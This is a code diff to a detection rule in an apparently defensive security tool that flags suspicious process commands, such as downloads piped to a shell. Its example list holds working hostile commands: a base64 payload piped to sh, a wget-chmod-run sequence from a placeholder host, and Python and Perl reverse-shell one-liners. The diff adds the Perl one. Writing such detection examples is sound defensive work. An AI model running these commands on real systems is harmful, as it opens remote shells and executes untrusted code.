@@ -17,7 +17,7 @@ from vigil import severity
 from vigil.detection import Context, Detection, Example, Meta
 from vigil.detections._common import command_context, memo_by_command
 from vigil.events import ProcessActivity
-from vigil.vocab import base_name, shell_command
+from vigil.vocab import SHELL_NAMES, base_name, shell_command
 
 _RUNNERS = r"(?:sudo\s+)?(?:/usr/bin/|/bin/)?(?:ba|da|z|k)?sh|python[0-9.]*|perl|ruby|php|node"
 _PIPE_TO_SHELL: Final = re.compile(rf"\b(?:curl|wget|fetch)\b[^|;&]*\|\s*(?:{_RUNNERS})\b")
@@ -87,6 +87,9 @@ class ExecutionSuspiciousCommand(Detection):
         ),
     )
     kinds = frozenset({"process_exec"})
+    # a script needs a shell (shell_command: is_shell, versions stripped); a one-liner an interpreter
+    # of _INTERP_FLAGS (versions stripped): nothing else can have a mechanism
+    programs = SHELL_NAMES | frozenset(_INTERP_FLAGS)
 
     def match(self, event: ProcessActivity, ctx: Context) -> bool:
         return _mechanism(event)[0] != ""
@@ -107,6 +110,7 @@ class ExecutionSuspiciousCommand(Detection):
         Example("base64 payload piped to sh", (s.exec_(s.proc("/bin/sh", "-c", "echo Y3VybCBldmlsCg== | base64 -d | sh")),)),
         Example("download, chmod, run in /tmp", (s.exec_(s.proc("/bin/sh", "-c", "wget -q http://x.badexample.net/k -O /tmp/k; chmod +x /tmp/k; /tmp/k")),)),
         Example("python socket one-liner", (s.exec_(s.proc("/usr/bin/python3", "-c", "import socket,subprocess,os;s=socket.socket();s.connect(('198.51.100.7',443));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])")),)),
+        Example("perl socket one-liner from a versioned binary", (s.exec_(s.proc("/usr/bin/perl5.36", "-e", "use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(443,inet_aton('198.51.100.7')));open(STDIN,'>&S');exec('/bin/sh -i')")),)),
     )  # fmt: skip
     near_misses: ClassVar = (
         Example("curl saving a file", (s.exec_(s.proc("/bin/sh", "-c", "curl -fsSL -o /opt/app/release.tgz https://example.com/r.tgz")),)),
